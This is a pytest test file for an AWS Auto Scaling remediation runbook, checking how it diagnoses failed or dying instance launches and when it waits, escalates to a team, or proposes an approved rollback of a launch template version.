"""Every branch of the judgement: what is wrong tonight, and the sentence that it comes to."""

import re
from datetime import timedelta
from typing import Any

import pytest
from msgspec.structs import replace

from recover_failed_launches.case import Case
from recover_failed_launches.causes import PASSING, Cause
from recover_failed_launches.deaths import Trouble
from recover_failed_launches.decide import decide
from recover_failed_launches.facts import Judged
from recover_failed_launches.fixes import of_launch, of_start
from recover_failed_launches.suspended import RESUME
from recover_failed_launches.taking_back import ROLL_BACK, START
from remediation.core.errors import AwsError
from remediation.core.spec import TEAMS
from remediation.core.verdict import Act, Attempt, Escalate, Nothing, Wait
from tests.functions.fakes.launching import MINUTE
from tests.functions.recover_failed_launches.nights import SETTINGS, Night
from tests.functions.recover_failed_launches.texts import GUIDE, REPORTED

GROUP_MISSING = "The security group 'sg-0000000000000dead' does not exist. Launching EC2 instance failed."
FULL = "There are not enough free addresses in subnet 'subnet-2' to satisfy the requested number of instances."
NO_CAPACITY = (
    "We currently do not have sufficient t3.small capacity in the Availability Zone you requested (us-east-1a)."
)


@pytest.fixture
def night() -> Night:
    """One of two instances serves, which somebody has seen before, and the group makes no tries of its own."""
    night = Night()
    night.world.tries = False
    night.world.add(1)
    night.seen_short()
    return night


@pytest.fixture
def broken(night: Night) -> Night:
    """Version 8, twenty minutes old, names a security group that does not exist; version 7 serves."""
    night.world.add_version(8, SecurityGroupIds=["sg-0000000000000dead"])
    night.world.version = "8"
    night.world.refusals["8"] = GROUP_MISSING
    for minutes in (1, 2, 3):
        night.world.fail(GROUP_MISSING, ago=minutes * MINUTE)
    return night


def escalated(night: Night) -> Escalate:
    verdict = night.verdict()
    assert isinstance(verdict, Escalate), verdict
    assert verdict.about == "dev-backend-asg"
    return verdict


def waited(night: Night) -> Wait:
    verdict = night.verdict()
    assert isinstance(verdict, Wait), verdict
    return verdict


def acted(night: Night) -> Act[Judged]:
    verdict = night.verdict()
    assert isinstance(verdict, Act), verdict
    assert verdict.approval is not None, "nothing is done without a person's yes"
    assert verdict.resource == "autoscaling-group/dev-backend-asg"
    return verdict


# ------------------------------------------------------------------------------------------------------- all is well


def test_a_complete_group_needs_nothing(night: Night) -> None:
    night.world.add(1)
    verdict = night.verdict()
    assert verdict == Nothing(because="dev-backend-asg has 2 of 2 instances in service; nothing is missing.")


def test_failures_that_were_made_up_for_need_nothing(night: Night) -> None:
    night.world.fail(NO_CAPACITY, ago=5 * MINUTE)
    night.world.add(1, age=MINUTE)
    assert isinstance(night.verdict(), Nothing)


def test_a_failure_before_the_last_success_is_not_what_keeps_it_short(night: Night) -> None:
    night.world.desired = 3
    night.world.fail(GROUP_MISSING, ago=5 * MINUTE)
    night.world.add(1, age=MINUTE)
    assert "no launch has failed lately" in escalated(night).because


def test_a_group_that_does_not_publish_what_our_alarm_watches_is_told(night: Night) -> None:
    night.world.add(1)
    night.world.metrics = ()
    verdict = night.verdict()
    assert isinstance(verdict, Nothing)
    assert verdict.tell is not None
    assert verdict.tell.id == "dev-backend-asg|metrics"
    assert "does not publish GroupInServiceInstances" in verdict.because
    assert verdict.next_steps[0].startswith("aws autoscaling enable-metrics-collection --auto-scaling-group-name")


def test_a_group_that_does_not_exist_is_said(night: Night) -> None:
    night.world.exists = False
    assert escalated(night).because.startswith("There is no Auto Scaling group dev-backend-asg in us-east-1:")


# ------------------------------------------------------------------------------------------------- instances with weights


@pytest.fixture
def weighted(night: Night) -> Night:
    """One instance of weight 4 serves, of a group that wants 8 units."""
    night.world.mixed, night.world.desired, night.world.min_size = True, 8, 8
    for each in night.world.instances.values():
        each.weight = "4"
    return night


def test_a_group_whose_instances_have_weights_is_complete_if_its_units_are(weighted: Night) -> None:
    (new,) = weighted.world.add(1)
    new.weight = "3"
    assert "dev-backend-asg has 7 of 8 units of its capacity in service (2 instances)" in escalated(weighted).because
    new.weight = "4"
    assert weighted.verdict() == Nothing(
        because="dev-backend-asg has 8 of 8 units of its capacity in service (2 instances); nothing is missing."
    )


def test_a_group_whose_instances_have_weights_is_told_what_fails(weighted: Night) -> None:
    weighted.world.fail(NO_CAPACITY)
    lead = "dev-backend-asg has 4 of 8 units of its capacity in service (1 instance). 1 launch failed at 03:39:00 UTC"
    assert waited(weighted).because.startswith(lead)


@pytest.mark.parametrize(("free", "kind"), [(0, Escalate), (1, Wait)])
def test_the_units_that_are_missing_are_no_number_of_addresses(weighted: Night, free: int, kind: type[object]) -> None:
    weighted.world.free = free
    weighted.world.fail(FULL)
    assert isinstance(weighted.verdict(), kind)


@pytest.mark.parametrize("counts", ["vcpu", "memory-mib"])
def test_a_group_that_counts_what_its_instances_do_not_say_is_not_supported(night: Night, counts: str) -> None:
    night.world.add(1)
    night.world.counts = counts
    verdict = escalated(night)
    assert verdict.because.endswith("AWS does not say as how many each of its instances counts: that is not supported.")
    for each in night.world.instances.values():
        each.weight = "1"
    assert isinstance(night.verdict(), Nothing)


# ------------------------------------------------------------------------------------------ what passes by itself


def test_a_shortage_of_capacity_is_waited_for_and_the_other_zones_are_shown(night: Night) -> None:
    night.world.fail(NO_CAPACITY)
    verdict = waited(night)
    assert verdict.because == (
        "dev-backend-asg has 1 of 2 instances in service. 1 launch failed at 03:39:00 UTC in us-east-1a: EC2 has no t3.small"
        " capacity there now; dev-backend-asg may use us-east-1a, us-east-1b (t3.small is offered in us-east-1a, us-east-1b,"
        " us-east-1c). Auto Scaling goes on trying by itself."
    )
    assert (verdict.for_, verdict.stand_down) == (timedelta(minutes=2), False)


def test_a_shortage_that_lasts_is_a_persons(night: Night) -> None:
    for minutes in range(1, 26, 4):
        night.world.fail(NO_CAPACITY, ago=minutes * MINUTE)
    assert escalated(night).because.endswith("That has not passed for 25 min.")


@pytest.mark.parametrize("cause", sorted(PASSING))
def test_whatever_passes_is_waited_for(night: Night, cause: Cause) -> None:
    night.world.fail(next(text for known, text in (*GUIDE, *REPORTED) if known is cause))
    assert waited(night).because.endswith("Auto Scaling goes on trying by itself.")


def test_what_does_not_pass_is_named_before_what_does(night: Night) -> None:
    night.world.free = 0
    night.world.fail(FULL, ago=50 * MINUTE, zone="us-east-1b")
    for minutes in range(1, 6):
        night.world.fail(NO_CAPACITY, ago=minutes * MINUTE)
    assert (
        "1 launch failed at 02:50:00 UTC in us-east-1b (5 more for others: capacity): the subnet has no free addresses"
        in escalated(night).because
    )


def test_a_shortage_lasts_only_since_it_began(night: Night) -> None:
    """Another failure before it, of what is mended by now, says nothing of the shortage."""
    night.world.fail(FULL, ago=50 * MINUTE)
    night.world.fail(NO_CAPACITY, ago=5 * MINUTE)
    assert waited(night).because.endswith("Auto Scaling goes on trying by itself.")


@pytest.mark.parametrize(("minutes", "kind"), [(19, Wait), (40, Escalate)])
def test_a_shortage_with_many_quick_failures_lasts_as_long(night: Night, minutes: int, kind: type[object]) -> None:
    for n in range(1, 3 * minutes + 1):
        night.world.fail(NO_CAPACITY, ago=n * timedelta(seconds=20))
    assert isinstance(night.verdict(), kind)
    assert len(night.look().tried) > 50


def test_what_was_tried_before_is_asked_for_only_as_far_back_as_it_matters(night: Night) -> None:
    for n in range(600):
        night.world.fail(NO_CAPACITY, ago=n * MINUTE)
    night.look()
    assert len(night.aws.calls.of("DescribeScalingActivities")) == 1


@pytest.mark.parametrize(
    ("text", "says"),
    [
        (GROUP_MISSING, "a security group was missing then, and all that version 7 names are there now"),
        (
            "The AMI ID 'ami-0000000000000dead' does not exist.",
            "that of version 7 (ami-0000000000000000a) is there now",
        ),
        (
            "There are not enough free addresses in subnet 'subnet-1'.",
            "has some now (subnet-1 in us-east-1a: 200 free)",
        ),
    ],
)
def test_what_was_missing_and_is_there_by_now_is_waited_for_until_patience_ends(
    night: Night, text: str, says: str
) -> None:
    night.world.fail(text)
    because = waited(night).because
    assert because.startswith(
        "dev-backend-asg has 1 of 2 instances in service. 1 launch failed at 03:39:00 UTC in us-east-1a: "
    )
    assert because.endswith(f"{says}: Auto Scaling tries again by itself.")
    night.world.fail(text, ago=25 * MINUTE)
    assert escalated(night).because.endswith(f"{says}, and still no launch has succeeded for 25 min.")
    night.world.groups.clear()
    night.world.images.clear()
    night.world.free = 0
    assert "now" not in escalated(night).because


def test_fewer_free_addresses_than_instances_are_missing_are_not_enough(night: Night) -> None:
    night.world.desired, night.world.free = 4, 2
    night.world.fail(FULL)
    assert "the subnet has no free addresses" in escalated(night).because


@pytest.mark.parametrize(("zone", "kind"), [("us-east-1a", Wait), ("us-east-1b", Escalate), ("", Escalate)], ids=str)
def test_every_subnet_that_a_launch_may_have_failed_in_needs_addresses(
    night: Night, zone: str, kind: type[object]
) -> None:
    night.world.free, night.world.fuller = 200, 0
    night.world.fail(FULL, zone=zone)
    assert isinstance(night.verdict(), kind)


def test_a_version_that_names_no_security_group_proves_nothing_of_it(night: Night) -> None:
    night.world.versions[7]["SecurityGroupIds"] = []
    night.world.fail(GROUP_MISSING)
    assert "does not exist" in escalated(night).because


def test_the_security_groups_of_a_network_interface_are_looked_for_as_well(broken: Night) -> None:
    """StartTech's template names them there."""
    for number, group in ((7, "sg-0000000000000ec20"), (8, "sg-0000000000000dead")):
        del broken.world.versions[number]["SecurityGroupIds"]
        broken.world.versions[number]["NetworkInterfaces"] = [{"DeviceIndex": 0, "Groups": [group]}]
    assert acted(broken).action == START
    broken.world.groups.add("sg-0000000000000dead")
    assert "are there now" in waited(broken).because


# -------------------------------------------------------------------------------------------- what somebody has to mend


WORDS = {
    Cause.RESERVATION: "capacity reservation",
    Cause.SPOT_PRICE: "Spot price",
    Cause.QUOTA: "quota of running instances",
    Cause.SPOT_QUOTA: "quota of Spot instances is used up",
    Cause.FLEET_QUOTA: "quota of fleet requests is used up",
    Cause.VOLUMES: "quota of EBS volumes",
    Cause.IMAGE: "the image ami-0000000000000000a of version 7",
    Cause.UNSUPPORTED: "do not go together",
    Cause.ZONE: "the zone does not offer t3.small",
    Cause.SECURITY_GROUP: "the security group sg-0000000000000ec20 of version 7",
    Cause.KEY_PAIR: "key pair",
    Cause.PROFILE: "instance profile",
    Cause.DEVICES: "block devices",
    Cause.SNAPSHOT: "snapshot",
    Cause.ENCRYPTION: "KMS key",
    Cause.PLACEMENT: "placement group",
    Cause.TEMPLATE: "the launch template or its version",
    Cause.SUBNET_FULL: "no free addresses",
    Cause.SUBNET: "a subnet of the group does not exist",
    Cause.TARGET_GROUP: "target group",
    Cause.PERMISSION: "permission",
    Cause.ACCOUNT: "the account may not launch it",
    Cause.HOOK: "lifecycle hook",
    Cause.GROUP_GONE: "being deleted",
    Cause.UNKNOWN: "does not know",
}


@pytest.mark.parametrize(
    ("cause", "text"),
    [each for each in (*GUIDE, *REPORTED) if each[0] not in PASSING],
    ids=lambda value: str(value)[:50],
)
def test_every_other_cause_is_named_to_the_team_with_a_command(night: Night, cause: Cause, text: str) -> None:
    night.world.fail(text)
    night.world.free = 0
    night.world.groups.clear()
    night.world.images.clear()
    verdict = escalated(night)
    lead = "dev-backend-asg has 1 of 2 instances in service. 1 launch failed at 03:39:00 UTC in us-east-1a: "
    assert verdict.because.startswith(lead)
    assert WORDS[cause] in verdict.because.removeprefix(lead)
    assert any(step.startswith("aws ") for step in verdict.next_steps)
    assert (verdict.team or "infrastructure") in TEAMS


def test_every_cause_and_every_trouble_has_words_of_its_own(night: Night) -> None:
    case = Case(night.look(), SETTINGS, (), night.steps.now)
    words = [of_launch(case, cause).why for cause in Cause] + [of_start(case, trouble).why for trouble in Trouble]
    assert len(set(words)) == len(Cause) + len(Trouble)
    assert not [why for why in words if why.endswith(".")], "they end a sentence, which has its own stop"


def test_the_quota_is_asked_for_where_it_is_the_reason_and_only_there(night: Night) -> None:
    night.world.fail("You have requested more vCPU capacity than your current vCPU limit of 32 allows for the bucket.")
    verdict = escalated(night)
    assert "the account's quota of running instances (32 vCPUs) is used up" in verdict.because
    assert verdict.next_steps[0] == (
        "aws service-quotas request-service-quota-increase --service-code ec2 --quota-code L-1216C47A --desired-value 64"
        " --region us-east-1"
    )
    other = Night()
    other.world.fail(GROUP_MISSING)
    other.look()
    assert other.aws.calls.of("GetServiceQuota") == []


def test_an_old_failure_is_not_what_is_wrong_now(night: Night) -> None:
    night.world.fail("The key pair 'gone' does not exist.", ago=timedelta(hours=2))
    verdict = escalated(night)
    assert verdict.because == (
        "dev-backend-asg has 1 of 2 instances in service, and none is under way. The last launch that was tried, on 2026-11-23"
        " 01:40 UTC, failed: the key pair of version 7 of the launch template does not exist. Auto Scaling tries less and less"
        " often."
    )
    assert any(line.startswith("2026-11-23 01:40 UTC: launch Failed") for line in verdict.evidence)


def test_what_nobody_has_seen_before_is_looked_at_once_more(night: Night) -> None:
    """An event may be there before the activity that it tells of."""
    night.aws.sightings.seen.clear()
    night.world.activities.clear()
    assert waited(night).because.endswith("is not known. That is new, so it is looked at once more.")
    night.steps.now += MINUTE
    assert escalated(night).because.endswith("why it does not launch is not known.")


@pytest.mark.parametrize(("looked", "kind"), [(timedelta(days=30), Wait), (14 * MINUTE, Escalate)])
def test_what_was_seen_weeks_ago_is_seen_anew(night: Night, looked: timedelta, kind: type[object]) -> None:
    night.seen_short(ago=timedelta(days=30), looked=looked)
    night.world.activities.clear()
    assert isinstance(night.verdict(), kind)
    night.steps.now += MINUTE
    assert isinstance(night.verdict(), Escalate), "by then it is seen for a minute"


def test_where_nobody_knows_since_when_a_person_is_called_at_once(night: Night) -> None:
    night.aws.sightings.see = lambda *_, **__: (_ for _ in ()).throw(
        AwsError("no", operation="dynamodb:GetItem", code="No")
    )
    verdict = escalated(night)
    assert "Could not be read: since when it is so (dynamodb:GetItem answered No)." in verdict.evidence


def test_a_group_that_was_complete_in_between_is_short_anew(night: Night) -> None:
    (new,) = night.world.add(1, age=timedelta(days=1))
    night.look()
    del night.world.instances[new.id]
    assert "That is new" in waited(night).because


@pytest.mark.parametrize(("minutes", "kind"), [(19, Wait), (21, Escalate)])
def test_an_instance_that_is_leaving_is_replaced_after_it_is_gone(
    night: Night, minutes: int, kind: type[object]
) -> None:
    (old,) = night.world.add(1)
    old.lifecycle = "Terminating:Wait"
    at = night.steps.now - minutes * MINUTE
    night.world.log("WaitingForELBConnectionDraining", f"Terminating EC2 instance: {old.id}", at=at)
    night.world.activities[0]["Cause"] = "an instance was taken out of service in response to a scale-in"
    verdict = night.verdict()
    assert isinstance(verdict, kind)
    if isinstance(verdict, Wait):
        assert verdict.because == (
            "dev-backend-asg has 1 of 2 instances in service; 1 instance leaving since 03:21:00 UTC, to be replaced."
        )


# ----------------------------------------------------------------------------- a version that is broken, and the one before


DRIFT = (
    "After that dev-backend-asg launches version 7, until the next terraform apply launches version 8 of lt-00000000000000001"
    " again: mend its launch template in Terraform first."
)


def test_a_broken_version_is_taken_back_by_a_refresh_with_the_last_good_one(broken: Night) -> None:
    act = acted(broken)
    assert (act.action, act.target.id) == (START, "dev-backend-asg")
    assert act.because == (
        "Start an instance refresh with version 7. dev-backend-asg has 1 of 2 instances in service. 3 launches failed since"
        " 03:37:00 UTC in us-east-1a: the security group sg-0000000000000dead of version 8 of the launch template does not"
        " exist. Version 8 fails, and version 7 works: 1 instance in service."
    )
    assert act.drift == DRIFT
    assert act.approval is not None
    assert act.approval.because == "It undoes a deploy: the instances of version 8 are replaced by version 7."


def test_without_the_right_to_launch_a_person_gets_the_command(broken: Night) -> None:
    broken.settings = replace(SETTINGS, may_launch=False)
    verdict = escalated(broken)
    assert verdict.because.endswith("Start an instance refresh with version 7: this runbook may not.")
    assert verdict.next_steps[0].startswith("aws autoscaling start-instance-refresh --auto-scaling-group-name")
    assert '"Version":"7"' in verdict.next_steps[0]
    assert DRIFT in verdict.next_steps


def test_the_refresh_that_is_on_is_rolled_back(broken: Night) -> None:
    broken.world.version = "7"
    refresh = broken.world.refresh("InProgress", version="8")
    act = acted(broken)
    assert (act.action, act.target.refresh) == (ROLL_BACK, refresh.id)
    assert act.because.startswith(f"Roll the instance refresh {refresh.id} back. ")


def test_a_deploy_that_cannot_launch_is_rolled_back_though_the_group_is_complete(broken: Night) -> None:
    """A refresh that launches before it terminates leaves the group complete for as long as nothing can be launched."""
    broken.world.version = "7"
    broken.world.add(1)
    refresh = broken.world.refresh("InProgress", version="8")
    broken.world.activities.clear()
    assert isinstance(broken.verdict(), Nothing), "until a launch has failed"
    broken.world.fail(GROUP_MISSING)
    act = acted(broken)
    assert (act.action, act.target.refresh) == (ROLL_BACK, refresh.id)
    assert "dev-backend-asg has 2 of 2 instances in service. 1 launch failed" in act.because


def test_a_refresh_that_names_the_groups_template_by_its_name_is_known(broken: Night) -> None:
    broken.world.version = "7"
    broken.world.refresh("InProgress", version="8", named="name")
    assert acted(broken).action == ROLL_BACK


OTHER = "lt-00000000000000002"


def deploy_of_another_template(night: Night, *, serves: bool) -> None:
    """Let the group's own template be lt-...1 in version 7, and a refresh bring version 8 of another one."""
    night.world.version, night.world.desired = "7", 3
    night.world.add_version(8, template=OTHER, SecurityGroupIds=["sg-0000000000000dead"])
    night.world.refresh("InProgress", version="8", template=OTHER)
    if serves:
        night.world.add(1, version="8", template=OTHER)
        night.world.fail(GROUP_MISSING, ago=MINUTE / 2)


@pytest.mark.parametrize("serves", [True, False])
def test_a_deploy_of_another_launch_template_is_never_taken_back(broken: Night, serves: bool) -> None:
    """The numbers of two templates say nothing of each other: 8 of the one is not what comes after 7 of the other."""
    deploy_of_another_template(broken, serves=serves)
    verdict = escalated(broken)
    assert "works" not in verdict.because
    assert any(f"Version 8 of {OTHER}, made " in line for line in verdict.evidence)


def test_an_earlier_version_of_a_template_that_the_group_does_not_use_is_none_to_go_back_to(broken: Night) -> None:
    broken.world.add_version(7, template=OTHER, made=broken.steps.now - timedelta(days=3))
    broken.world.add_version(8, template=OTHER, SecurityGroupIds=["sg-0000000000000dead"])
    broken.world.desired, broken.world.template = 3, OTHER
    broken.world.add(1, version="7", template=OTHER)
    broken.world.refresh("InProgress", version="8", template=OTHER)
    assert "cannot be rolled back" in escalated(broken).because, "the group is on version 8 of it already"
    broken.world.template, broken.world.version = "lt-00000000000000001", "7"
    assert "works" not in escalated(broken).because


def test_a_member_that_serves_with_the_same_number_of_another_template_proves_nothing(broken: Night) -> None:
    broken.world.desired = 3
    broken.world.add(1, version="8", template=OTHER)
    assert acted(broken).target.bad == "8", "and does not make the broken version one that serves"
    for each in broken.world.instances.values():
        each.template = OTHER
    assert isinstance(broken.verdict(), Escalate)


def test_instances_of_another_template_that_die_are_not_those_of_this_version(night: Night) -> None:
    night.world.add_version(8, tag="v8")
    night.world.version = "8"
    for minutes in (4, 1):
        night.world.die(version="8", ago=minutes * MINUTE, template=OTHER)
    assert isinstance(night.verdict(), Escalate)


@pytest.mark.parametrize("how", [{"named": "mix"}, {"named": "name", "template": OTHER}])
def test_of_a_refresh_whose_version_is_not_known_no_version_is_judged(broken: Night, how: dict[str, Any]) -> None:
    broken.world.version = "7"
    broken.world.refresh("InProgress", version="8", **how)
    verdict = escalated(broken)
    assert "works" not in verdict.because
    assert "cannot be rolled back" not in verdict.because
    assert any(
        "names another launch template by its name, or a mix of instance types" in line for line in verdict.evidence
    )


@pytest.mark.parametrize(
    ("group", "refresh"), [("8", ""), ("$Latest", "8"), ("8", "8")], ids=["no desired", "$Latest", "to itself"]
)
def test_a_refresh_that_cannot_be_rolled_back_is_a_persons(broken: Night, group: str, refresh: str) -> None:
    broken.world.version = group
    broken.world.refresh("InProgress", version=refresh)
    verdict = escalated(broken)
    assert verdict.because.endswith("that is on cannot be rolled back to it: cancel it, then start one.")
    assert [step.split()[2] for step in verdict.next_steps[:2]] == ["cancel-instance-refresh", "start-instance-refresh"]
    assert DRIFT in verdict.next_steps


def test_latest_is_known_by_its_number(broken: Night) -> None:
    broken.world.version = "$Latest"
    act = acted(broken)
    assert (act.target.bad, act.target.good) == ("8", "7")


def spoil_nobody_serves(night: Night) -> None:
    for each in night.world.instances.values():
        each.healthy = False


def spoil_one_serves_with_the_new(night: Night) -> None:
    night.world.desired = 3
    night.world.add(1, version="8", age=30 * MINUTE)


def spoil_it_failed_before_it_existed(night: Night) -> None:
    night.world.made[8] = night.steps.now


def spoil_the_old_one_names_it_too(night: Night) -> None:
    night.world.versions[7]["SecurityGroupIds"] = ["sg-0000000000000dead"]


def spoil_the_old_image_is_gone(night: Night) -> None:
    night.world.images.clear()


def spoil_the_old_image_cannot_be_read(night: Night) -> None:
    night.world.unreadable.add("ec2:DescribeImages")


def spoil_the_old_groups_cannot_be_read(night: Night) -> None:
    night.world.unreadable.add("ec2:DescribeSecurityGroups")


def spoil_the_old_tag_is_gone(night: Night) -> None:
    night.world.tags.clear()


def spoil_the_cause_is_another(night: Night) -> None:
    night.world.free = 0
    night.world.fail(FULL, ago=timedelta(seconds=5))


def spoil_the_profile_is_empty(night: Night) -> None:
    night.world.role = ""


def spoil_the_group_mixes_types(night: Night) -> None:
    night.world.mixed = True


SPOILS = [value for name, value in sorted(globals().items()) if name.startswith("spoil_")]


@pytest.mark.parametrize("spoil", SPOILS, ids=lambda spoil: spoil.__name__)
def test_no_version_is_taken_back_unless_every_proof_is_there(broken: Night, spoil: object) -> None:
    assert isinstance(broken.verdict(), Act), "the proof is complete before"
    spoil(broken)  # type: ignore[operator]
    assert isinstance(broken.verdict(), Escalate)


GONE: list[tuple[str, dict[str, Any]]] = [
    (GROUP_MISSING, {"SecurityGroupIds": ["sg-0000000000000dead"]}),
    ("The AMI ID 'ami-0000000000000dead' does not exist.", {"ImageId": "ami-0000000000000dead"}),
]
FAILS: list[tuple[str, dict[str, Any]]] = [
        ("The requested configuration is currently not supported.", {"InstanceType": "t4g.small"}),
        ("Your requested instance type (x9.small) is not supported in your requested Availability Zone", {"InstanceType": "x9.small"}),
        ("The key pair 'gone' does not exist.", {"KeyName": "gone"}),
        ("Invalid IAM Instance Profile name", {"IamInstanceProfile": {"Name": "gone"}}),
        ("Invalid device name /dev/sdzz", {"BlockDeviceMappings": [{"DeviceName": "/dev/sdzz"}]}),
        ("Client.InvalidSnapshot.NotFound", {"BlockDeviceMappings": [{"DeviceName": "/dev/sdb"}]}),
        ("Client.InternalError: Client error on launch", {"BlockDeviceMappings": [{"DeviceName": "/dev/sdb"}]}),
        ("Placement groups may not be used with instances of type 't3.small'", {"Placement": {"GroupName": "near"}}),
]  # fmt: skip


@pytest.mark.parametrize(("text", "changes"), [*GONE, *FAILS])
def test_a_version_is_blamed_for_what_it_does_differently_and_only_for_that(
    night: Night, text: str, changes: dict[str, Any]
) -> None:
    night.world.version = "8"
    night.world.fail(text)
    night.world.add_version(8, **changes)
    assert acted(night).action == START
    night.world.add_version(8)
    assert not isinstance(night.verdict(), Act), "the two versions are the same"


def partly_launched(night: Night, text: str, changes: dict[str, Any], *, age: int) -> Night:
    """Let one instance of version 8 serve, and the launch of another one fail."""
    night.world.desired, night.world.version = 3, "8"
    night.world.add_version(8, made=night.steps.now - 40 * MINUTE, **changes)
    night.world.add(1, version="8", age=age * MINUTE)
    night.world.fail(text)
    return night


@pytest.mark.parametrize("age", [2, 25])
@pytest.mark.parametrize(("text", "changes"), FAILS)
def test_an_instance_that_serves_proves_that_its_version_can_be_launched_however_young(
    night: Night, text: str, changes: dict[str, Any], age: int
) -> None:
    """Another zone may not offer its type."""
    assert "Version 8 fails" not in escalated(partly_launched(night, text, changes, age=age)).because


@pytest.mark.parametrize(("age", "kind"), [(2, Act), (25, Escalate)])
@pytest.mark.parametrize(("text", "changes"), GONE)
def test_what_is_gone_now_is_so_whatever_was_launched_with_it_lately(
    night: Night, text: str, changes: dict[str, Any], age: int, kind: type[object]
) -> None:
    assert isinstance(partly_launched(night, text, changes, age=age).verdict(), kind)


def test_what_is_said_to_be_missing_and_is_there_by_now_proves_nothing(broken: Night) -> None:
    broken.world.groups.add("sg-0000000000000dead")
    assert "all that version 8 names are there now" in waited(broken).because


def test_an_image_that_is_there_by_now_proves_nothing(night: Night) -> None:
    night.world.add_version(8, ImageId="ami-0000000000000000b")
    night.world.version = "8"
    night.world.fail("The AMI ID 'ami-0000000000000000b' does not exist.")
    assert acted(night).action == START
    night.world.images["ami-0000000000000000b"] = "available"
    assert "that of version 8 (ami-0000000000000000b) is there now" in waited(night).because


def test_an_earlier_version_whose_security_groups_are_gone_is_none_to_go_back_to(night: Night) -> None:
    night.world.add_version(8, KeyName="gone")
    night.world.version = "8"
    night.world.fail("The key pair 'gone' does not exist.")
    assert acted(night).action == START
    night.world.groups.clear()
    assert isinstance(night.verdict(), Escalate)


# ---------------------------------------------------------------------------------------- instances that launch and die


def test_a_tag_that_ecr_does_not_have_is_the_applications(night: Night) -> None:
    night.world.tags.clear()
    night.world.die(ago=5 * MINUTE)
    night.world.die()
    verdict = escalated(night)
    assert verdict.because == (
        "dev-backend-asg has 1 of 2 instances in service; 2 instances came up and died again since 03:35:00 UTC: ECR does not"
        " have dev-starttech-backend:v7."
    )
    assert verdict.team == "application"
    assert verdict.next_steps[0].startswith("aws ecr describe-images --repository-name dev-starttech-backend")


def test_a_role_that_may_not_pull_is_named_with_what_it_lacks(night: Night) -> None:
    night.world.denied = {"ecr:BatchGetImage"}
    night.world.die()
    night.world.die()
    verdict = escalated(night)
    assert verdict.because.endswith("dev-ec2-role may not pull from ECR (ecr:BatchGetImage).")
    assert verdict.next_steps[0].startswith(
        "aws iam simulate-principal-policy --policy-source-arn arn:aws:iam::123456789012:role/"
    )


@pytest.mark.parametrize(
    ("way", "route", "says"), [("", "active", "has no default route"), ("nat-1", "blackhole", "is gone")]
)
def test_a_subnet_without_a_way_out_is_a_suspicion(night: Night, way: str, route: str, says: str) -> None:
    night.world.way, night.world.route = way, route
    night.world.die()
    night.world.die()
    verdict = escalated(night)
    why = verdict.because.partition("UTC: ")[2]
    assert why.startswith("neither AWS nor the instances say why; it may be that some cannot reach ECR, as subnet-1")
    assert says in why
    assert why.endswith(", unless VPC endpoints lead to it.")
    (endpoints,) = [step for step in verdict.next_steps if "vpc-endpoints" in step]
    assert (
        "Values=com.amazonaws.us-east-1.ecr.api,com.amazonaws.us-east-1.ecr.dkr,com.amazonaws.us-east-1.s3" in endpoints
    )


def test_only_the_subnets_without_a_way_out_are_suspected(night: Night) -> None:
    night.world.main_way = ""
    night.world.die()
    night.world.die()
    because = escalated(night).because
    assert "as subnet-2 has no default route, unless" in because
    assert "subnet-1" not in because


def test_what_an_instance_logs_goes_before_a_suspicion(night: Night) -> None:
    """Where VPC endpoints lead to ECR no subnet has a default route, and nothing is wrong with that."""
    night.world.way = ""
    (ill,) = night.world.add(1, age=15 * MINUTE)
    ill.healthy, ill.container = False, "exited"
    assert escalated(night).because.endswith(": the container is there and does not keep running.")


LOGS = [
    ("manifest for x/dev-starttech-backend:v9 not found: manifest unknown", Trouble.NO_TAG),
    ("Error response from daemon: Head x/manifests/v9: no basic auth credentials", Trouble.NO_RIGHT),
    ("Error response from daemon: Get x/v2/: dial tcp 10.0.0.1:443: i/o timeout", Trouble.NO_WAY),
    ("write /var/lib/docker: no space left on device", Trouble.NO_SPACE),
    ("no matching manifest for linux/arm64/v8 in the manifest list entries", Trouble.ARCHITECTURE),
    ("Cannot connect to the Docker daemon at unix:///var/run/docker.sock", Trouble.NO_DOCKER),
]


@pytest.mark.parametrize(("log", "trouble"), LOGS)
def test_what_an_instance_logs_is_a_cause(night: Night, log: str, trouble: Trouble) -> None:
    (ill,) = night.world.add(1, age=15 * MINUTE)
    ill.healthy, ill.container, ill.log = False, "missing", f"cloud-init starts\n{log}\n"
    verdict = escalated(night)
    fix = of_start(Case(night.look(), SETTINGS, (), night.steps.now), trouble)
    assert verdict.because == (
        f"dev-backend-asg has 1 of 2 instances in service; instances were launched and do not come up: {fix.why}."
    )


@pytest.mark.parametrize(
    ("container", "cloud_init", "says"),
    [
        ("exited", "done", "the container is there and does not keep running"),
        ("missing", "error", "user data ended without having started the container"),
    ],
)
def test_an_instance_without_its_container_is_a_cause(night: Night, container: str, cloud_init: str, says: str) -> None:
    (ill,) = night.world.add(1, age=15 * MINUTE)
    ill.healthy, ill.container, ill.cloud_init = False, container, cloud_init
    assert escalated(night).because.endswith(f": {says}.")


def test_what_ec2_says_of_an_end_is_a_cause(night: Night) -> None:
    for _ in range(2):
        night.world.die(code="Client.VolumeLimitExceeded", reason="Client.VolumeLimitExceeded: Volume limit exceeded")
    assert escalated(night).because.endswith("the account's quota of EBS volumes is used up.")


SPOT: dict[str, Any] = {
    "code": "Server.SpotInstanceTermination",
    "reason": "Server.SpotInstanceTermination: Spot instance termination",
}


def test_spot_instances_that_ec2_takes_back_did_not_die(night: Night) -> None:
    night.world.add(1)
    for ago in (40, 5):
        night.world.die(ago=ago * MINUTE, **SPOT)
    assert isinstance(night.verdict(), Nothing)
    night.world.desired = 3
    night.world.fail(NO_CAPACITY)
    verdict = waited(night)
    assert "EC2 has no t3.small capacity there now" in verdict.because
    assert any('EC2 says: "Server.SpotInstanceTermination' in line for line in verdict.evidence)


def test_instances_that_die_of_something_else_do_so_among_those_that_ec2_takes_back(night: Night) -> None:
    night.world.tags.clear()
    for each in ({}, SPOT, {}):
        night.world.die(ago=5 * MINUTE, **each)
    assert "; 2 instances came up and died again" in escalated(night).because


def test_how_the_group_ended_an_instance_is_none(night: Night) -> None:
    for _ in range(2):
        night.world.die(
            code="Client.UserInitiatedShutdown", reason="Client.UserInitiatedShutdown: User initiated shutdown"
        )
    assert "neither AWS nor the instances say why" in escalated(night).because


def test_one_death_is_no_loop(night: Night) -> None:
    night.world.die()
    assert "why it does not launch is not known" in escalated(night).because


def test_a_group_whose_instances_die_one_after_the_other_is_not_well_because_it_looks_complete(night: Night) -> None:
    night.world.tags.clear()
    for minutes in (14, 8, 2):
        night.world.die(ago=minutes * MINUTE)
    night.world.add(1, age=2 * MINUTE)
    because = escalated(night).because
